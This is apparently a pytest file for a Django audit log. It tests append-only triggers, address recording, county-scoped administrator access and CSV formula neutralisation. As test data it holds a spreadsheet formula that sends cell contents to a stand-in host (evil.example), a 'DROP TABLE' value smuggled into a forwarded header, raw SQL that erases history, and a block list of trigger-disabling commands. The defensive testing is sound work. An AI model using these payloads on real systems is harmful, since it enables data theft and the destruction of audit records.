"""The audit log (issue 10): rows the database itself refuses to change or delete, each with the
address the change came from, and a viewer for administrators, scoped to their county.

Each attack is performed and must fail: rewriting or erasing history through the ORM or raw SQL,
forging the recorded address with a header, a non-administrator or another county's administrator
reading this county's log, a formula smuggled into the export through a reason."""

from __future__ import annotations

import csv
import datetime
import functools
import io
import os
import subprocess
import sys

import pytest
from django.conf import settings
from django.db import DatabaseError, connection, transaction
from django.db.models.deletion import ProtectedError
from django.test import RequestFactory, override_settings
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation

from accounts.models import Role, User
from core import views as core_views
from core.audit import audit, changes
from core.middleware import client_address
from core.models import AuditEvent
from households.models import Member
from households.services import households as household_services
from tests.factories import HouseholdFactory, LoanFactory, UserFactory

pytestmark = pytest.mark.django_db

REFUSED = "Cannot update or delete rows from core_auditevent table"
URL = "/audit/"
EXPORT = "/audit/export.csv"


@pytest.fixture
def event(world):
    household = HouseholdFactory(village=world.v1a)
    return audit(actor=world.cadre, action="household.update", obj=household, reason="原因", data={"a": 1})


def unchanged(event) -> bool:
    stored = AuditEvent.objects.get(pk=event.pk)
    return (stored.action, stored.reason, stored.data, stored.actor_id) == (
        event.action,
        event.reason,
        event.data,
        event.actor_id,
    )


# ---- append-only at the database ---------------------------------------------------------------


def refused(attempt) -> str:
    """Run `attempt` in a savepoint and return the database's refusal message."""
    with pytest.raises(DatabaseError) as caught, transaction.atomic():
        attempt()
    return str(caught.value)


def test_an_orm_update_of_an_audit_row_is_refused(event):
    assert REFUSED in refused(lambda: AuditEvent.objects.filter(pk=event.pk).update(reason="改写"))
    event.reason = "改写"
    assert REFUSED in refused(event.save)
    event.reason = "原因"
    assert unchanged(event)


def test_an_orm_delete_of_audit_rows_is_refused(event):
    assert REFUSED in refused(event.delete)
    assert REFUSED in refused(lambda: AuditEvent.objects.all().delete())
    assert AuditEvent.objects.filter(pk=event.pk).exists()


def test_raw_sql_update_and_delete_are_refused(event):
    def update():
        with connection.cursor() as cursor:
            cursor.execute(
                "UPDATE core_auditevent SET reason = 'x', actor_id = NULL WHERE id = %s", [event.pk]
            )

    def delete():
        with connection.cursor() as cursor:
            cursor.execute("DELETE FROM core_auditevent")

    assert REFUSED in refused(update)
    assert REFUSED in refused(delete)
    assert unchanged(event)


def test_nothing_in_the_project_lifts_the_trigger():
    """pgtrigger lets a session skip a trigger (pgtrigger.ignore) and the table's owner can disable
    it; no code of ours may do either (production also keeps UPDATE, DELETE and TRUNCATE on the
    table from the application's database role, see the README)."""
    base = settings.BASE_DIR
    sources = [
        p
        for p in base.rglob("*.py")
        # bench/ loads scratch databases of its own with the foreign-key triggers off.
        if not {".venv", "node_modules", "tests", "bench"} & set(p.relative_to(base).parts)
    ]
    assert len(sources) > 50
    offending = [
        str(p.relative_to(base))
        for p in sources
        if any(
            marker in p.read_text(encoding="utf-8").lower()
            for marker in (
                "pgtrigger.ignore",
                "pgtrigger.uninstall",
                "pgtrigger.disable",
                "disable trigger",
                "session_replication_role",
            )
        )
    ]
    assert offending == []


def test_a_user_with_audit_rows_cannot_be_deleted(event, world):
    """The actor link is PROTECT: deleting the user would otherwise orphan (or cascade) history."""
    with pytest.raises(ProtectedError), transaction.atomic():
        world.cadre.delete()
    assert unchanged(event)


def test_appending_still_works(world):
    before = AuditEvent.objects.count()
    audit(actor=world.admin, action="user.create", obj=world.cadre)
    assert AuditEvent.objects.count() == before + 1


SQLITE_ATTEMPT = """
from django.conf import settings
from django.db import DatabaseError, transaction
from core.models import AuditEvent
event = AuditEvent.objects.create(action="x", object_type="a", object_id="1", reason="kept")
for attempt in (
    lambda: AuditEvent.objects.filter(pk=event.pk).update(reason="rewritten"),
    lambda: AuditEvent.objects.all().delete(),
):
    try:
        with transaction.atomic():
            attempt()
        print("NOT REFUSED")
    except DatabaseError as e:
        print("refused:", e)
print("left:", list(AuditEvent.objects.values_list("reason", flat=True)))
"""


def test_the_embedded_sqlite_refuses_too(tmp_path):
    """`make run` migrates the local settings' SQLite: pgtrigger skips it, plain triggers protect it."""
    env = {
        **os.environ,
        "DJANGO_SETTINGS_MODULE": "config.settings.local",
        "DATABASE_URL": f"sqlite:///{tmp_path / 'local.sqlite3'}",
    }
    run = functools.partial(
        subprocess.run, cwd=settings.BASE_DIR, env=env, capture_output=True, text=True, timeout=300
    )
    migrated = run([sys.executable, "manage.py", "migrate", "--noinput", "-v", "0"])
    assert migrated.returncode == 0, migrated.stderr[-3000:]
    result = run([sys.executable, "manage.py", "shell", "-c", SQLITE_ATTEMPT])
    assert result.returncode == 0, result.stderr[-3000:]
    assert result.stdout.count(f"refused: {REFUSED}") == 2, result.stdout
    assert "NOT REFUSED" not in result.stdout
    assert "left: ['kept']" in result.stdout


# ---- the address of each change -------------------------------------------------------------------


def export_as(client, user, **extra):
    client.force_login(user)
    return client.get(EXPORT, **extra)


def last_export() -> AuditEvent:
    return AuditEvent.objects.filter(action="audit_log.export").latest("id")


def test_a_change_made_through_a_request_records_the_client_address(world, client):
    assert export_as(client, world.admin, REMOTE_ADDR="203.0.113.7").status_code == 200
    assert last_export().address == "203.0.113.7"
    # The viewer finds events by (part of) their address.
    response = client.get(URL, {"q": "203.0.113"})
    assert [row["event"] for row in response.context["rows"]] == [last_export()]
    assert "203.0.113.7" in response.content.decode()


def test_a_forged_x_forwarded_for_is_ignored_without_a_trusted_proxy(world, client):
    response = export_as(client, world.admin, REMOTE_ADDR="203.0.113.7", HTTP_X_FORWARDED_FOR="10.9.9.9")
    assert response.status_code == 200
    assert last_export().address == "203.0.113.7"


@override_settings(TRUSTED_PROXY_COUNT=1)
def test_behind_a_trusted_proxy_the_address_it_saw_is_recorded_not_the_one_the_client_wrote(world, client):
    # The client wrote "10.9.9.9"; our proxy (REMOTE_ADDR 127.0.0.1) appended the address it saw.
    response = export_as(
        client, world.admin, REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="10.9.9.9, 198.51.100.23"
    )
    assert response.status_code == 200
    assert last_export().address == "198.51.100.23"


@override_settings(TRUSTED_PROXY_COUNT=1)
@pytest.mark.parametrize("header", ["", "not-an-address", "1.2.3.4; DROP TABLE"])
def test_a_missing_or_malformed_forwarded_address_falls_back_to_the_peer(header):
    request = RequestFactory().get("/", REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR=header)
    assert client_address(request) == "127.0.0.1"


def test_ipv6_clients_are_recorded(world, client):
    assert export_as(client, world.admin, REMOTE_ADDR="2001:db8::1").status_code == 200
    assert last_export().address == "2001:db8::1"


def test_a_change_outside_a_request_has_no_address(world, client):
    # A request before it must not leave its address behind for later work on the same thread.
    export_as(client, world.admin, REMOTE_ADDR="203.0.113.7")
    household = HouseholdFactory(village=world.v1a)
    event = audit(actor=None, action="household.update", obj=household)
    assert event.address is None


def test_a_service_called_from_a_page_records_the_address(world, client):
    """A real write through a page (not the viewer's own export) gets the address too."""
    household = HouseholdFactory(village=world.v1a)
    client.force_login(world.county_office)
    response = client.post(
        reverse("households:blacklist_add", args=[household.pk]),
        {"reason": "恶意逃债"},
        REMOTE_ADDR="192.0.2.44",
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    event = AuditEvent.objects.get(action="blacklist.add")
    assert (event.actor, event.address) == (world.county_office, "192.0.2.44")


# ---- the viewer: who may read it ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "who", ["cadre", "township_officer", "county_office", "officer", "approver", "finance"]
)
def test_only_administrators_read_the_audit_log(world, client, who):
    client.force_login(getattr(world, who))
    assert client.get(URL).status_code == 403
    assert client.get(EXPORT).status_code == 403
    assert not AuditEvent.objects.filter(action="audit_log.export").exists()


def test_anonymous_visitors_are_sent_to_log_in(client):
    response = client.get(URL)
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_the_menu_links_the_audit_log_for_administrators_only(world, client):
    client.force_login(world.admin)
    assert URL in client.get("/").content.decode()
    client.force_login(world.cadre)
    assert URL not in client.get("/").content.decode()


@pytest.fixture
def two_counties(world):
    """Events in county A (by its cadre, by a branch officer, by the daily task) and in county Z,
    and an administrator for each county."""
    here = HouseholdFactory(village=world.v1a, registration_no="450322100000001")
    there = HouseholdFactory(village=world.vz, registration_no="450323100000009")
    loan = LoanFactory(household=here, branch=world.br1)
    events = {
        "cadre_here": audit(actor=world.cadre, action="household.update", obj=here, reason="本县改户"),
        "officer_here": audit(actor=world.officer, action="loan.repayment", obj=loan, reason="本县还款"),
        "task_here": audit(actor=None, action="application.end_publicity", obj=loan, reason="本县任务"),
        "rate": audit(actor=None, action="rate.create", obj=world.county, reason="共享参考数据"),
        "there": audit(actor=world.other_cadre, action="household.update", obj=there, reason="外县改户"),
        "task_there": audit(actor=None, action="household.update", obj=there, reason="外县任务"),
    }
    other_admin = UserFactory(username="otheradmin", unit=world.other_county, roles=[Role.ADMIN])
    return events, other_admin


def reasons_seen(client, user, **params) -> set[str]:
    client.force_login(user)
    response = client.get(URL, params)
    assert response.status_code == 200
    return {row["event"].reason for row in response.context["rows"]}


def test_an_administrator_sees_only_their_countys_events(world, client, two_counties):
    events, other_admin = two_counties
    mine = reasons_seen(client, world.admin)
    assert {"本县改户", "本县还款", "本县任务"} <= mine
    assert "外县改户" not in mine and "外县任务" not in mine
    theirs = reasons_seen(client, other_admin)
    assert {"外县改户", "外县任务"} <= theirs
    assert not {"本县改户", "本县还款", "本县任务"} & theirs


def test_another_countys_administrator_cannot_reach_this_countys_events_by_filter_or_export(
    world, client, two_counties
):
    events, other_admin = two_counties
    here = events["cadre_here"]
    assert (
        reasons_seen(client, other_admin, object_type=here.object_type, object_id=here.object_id, q="本县")
        == set()
    )
    client.force_login(other_admin)
    text = client.get(EXPORT).content.decode("utf-8-sig")
    assert "外县改户" in text and "本县" not in text


# ---- the viewer: what it shows ---------------------------------------------------------------------


def test_the_page_shows_who_when_where_what_and_the_changes_in_chinese(world, client):
    household = HouseholdFactory(village=world.v1a, registration_no="450322100000777", address="旧地址")
    client.force_login(world.cadre)
    household_services.household_update(
        acting_user=world.cadre, household=household, address="新地址", reason="搬家了"
    )
    client.force_login(world.admin)
    page = client.get(URL, REMOTE_ADDR="203.0.113.7").content.decode()
    assert "修改贫困户信息" in page  # household.update, as people say it
    assert world.cadre.name in page and "cadre" in page
    assert "搬家了" in page
    assert "<del>旧地址</del> → <ins>新地址</ins>" in page
    assert f'href="/households/{household.pk}/"' in page
    assert "2026-06-17" in page


def test_filters_by_user_action_object_and_dates(world, client, two_counties, pinned_clock):
    events, _other = two_counties
    pinned_clock.move_to(datetime.datetime(2026, 6, 20, 9, 0, tzinfo=datetime.UTC))
    later = audit(actor=world.cadre, action="blacklist.add", obj=world.cadre, reason="三天后")
    assert reasons_seen(client, world.admin, actor=world.officer.pk) == {"本县还款"}
    assert reasons_seen(client, world.admin, action="loan.repayment") == {"本县还款"}
    loan = events["officer_here"]
    assert reasons_seen(client, world.admin, object_type="loans.loan", object_id=loan.object_id) == {
        "本县还款",
        "本县任务",
    }
    assert reasons_seen(client, world.admin, date_from="2026-06-18") == {later.reason}
    assert "三天后" not in reasons_seen(client, world.admin, date_to="2026-06-17")
    assert reasons_seen(client, world.admin, q="本县还") == {"本县还款"}


def test_a_malformed_filter_lists_nothing_and_says_why(world, client, two_counties):
    client.force_login(world.admin)
    response = client.get(URL, {"date_from": "2026-13-01"})
    assert response.status_code == 200
    assert response.context["rows"] == []
    assert response.context["filters"].errors["date_from"]
    response = client.get(URL, {"date_from": "2026-06-18", "date_to": "2026-06-17"})
    assert response.context["filters"].errors["date_to"]


def test_the_page_query_count_does_not_grow_with_events(world, client, django_assert_max_num_queries):
    client.force_login(world.admin)
    household = HouseholdFactory(village=world.v1a)
    audit(
        actor=world.cadre, action="household.update", obj=household, data={"changed": {"address": ["a", "b"]}}
    )
    with CaptureQueriesContext(connection) as few:
        assert client.get(URL).status_code == 200
    actors = [UserFactory(unit=world.v1a, roles=[Role.VILLAGE_CADRE]) for _ in range(5)]
    for i in range(60):
        audit(
            actor=actors[i % 5],
            action="household.update",
            obj=HouseholdFactory(village=world.v1b),
            data={
                "changed": {"address": ["a", str(i)]},
                "members": {"added": [], "changed": [], "removed": []},
            },
        )
    with django_assert_max_num_queries(len(few.captured_queries)):
        response = client.get(URL)
    assert len(response.context["rows"]) == core_views.PAGE_SIZE


def test_changes_read_as_field_before_and_after():
    label = lambda model, field: str(model._meta.get_field(field).verbose_name)  # noqa: E731
    update = AuditEvent(
        action="user.update",
        object_type="accounts.user",
        data={"before": {"name": "甲"}, "after": {"name": "乙"}},
    )
    assert changes(update) == [{"label": label(User, "name"), "before": "甲", "after": "乙"}]
    created = AuditEvent(
        action="user.create", object_type="accounts.user", data={"before": None, "after": {"name": "丙"}}
    )
    assert changes(created) == [{"label": label(User, "name"), "before": "-", "after": "丙"}]
    members = AuditEvent(
        action="household.update",
        object_type="households.household",
        data={
            "changed": {},
            "members": {
                "added": [],
                "removed": [],
                "count": 1,
                "changed": [
                    {
                        "id": 5,
                        "changed": {
                            "name": ["张三", "张四"],
                            "id_number": [
                                {"hash": "h1", "masked": "4503**1"},
                                {"hash": "h2", "masked": "4503**2"},
                            ],
                        },
                    }
                ],
            },
        },
    )
    rows = changes(members)
    assert rows[0]["before"] == "张三" and rows[0]["after"] == "张四"
    assert rows[0]["label"].endswith(label(Member, "name")) and "5" in rows[0]["label"]
    # An ID number reads as its masked form; the keyed hash is not shown.
    assert (rows[1]["before"], rows[1]["after"]) == ("4503**1", "4503**2")


def test_keys_that_are_not_fields_read_in_chinese():
    """A blacklist removal request and a full-ID view record keys that are not fields of their
    object; on the page they read as words, not as the codes services use."""
    with translation.override("zh-hans"):
        request = AuditEvent(
            action="blacklist_removal.request",
            object_type="households.blacklistremovalrequest",
            data={"household": 43, "unsettled_loans": [], "basis": "exception"},
        )
        labels = [row["label"] for row in changes(request)]
        assert "农户" in labels and "未结清的贷款" in labels
        assert not {"household", "unsettled_loans"} & set(labels)
        view = AuditEvent(
            action="member.id_number_view", object_type="households.member", data={"via": "page"}
        )
        assert changes(view) == [{"label": "途径", "value": "页面"}]


# ---- the export ----------------------------------------------------------------------------------------


def test_the_export_neutralises_formulas_and_is_itself_audited(world, client):
    household = HouseholdFactory(village=world.v1a)
    audit(
        actor=world.cadre,
        action="household.update",
        obj=household,
        reason='=HYPERLINK("http://evil.example/?"&A1,"点我")',
        data={"changed": {"address": ["+1+2", "@SUM(1)"]}},
    )
    client.force_login(world.admin)
    response = client.get(EXPORT, {"action": "household.update"}, REMOTE_ADDR="203.0.113.7")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header, row = rows[0], rows[1]
    assert len(rows) == 2
    assert row[header.index("原因")] == '\'=HYPERLINK("http://evil.example/?"&A1,"点我")'
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
    exported = last_export()
    assert (exported.actor, exported.address, exported.data["rows"]) == (world.admin, "203.0.113.7", 1)
    assert exported.data["filters"] == {"action": "household.update"}


def test_an_export_over_the_cap_is_refused_with_a_message(world, client, monkeypatch):
    monkeypatch.setattr(core_views, "EXPORT_MAX_ROWS", 2)
    household = HouseholdFactory(village=world.v1a)
    for _ in range(3):
        audit(actor=world.cadre, action="household.update", obj=household)
    client.force_login(world.admin)
    response = client.get(EXPORT, follow=True)
    assert response.redirect_chain[0][0].startswith(URL)
    assert "最多" in response.content.decode()
    assert not AuditEvent.objects.filter(action="audit_log.export").exists()
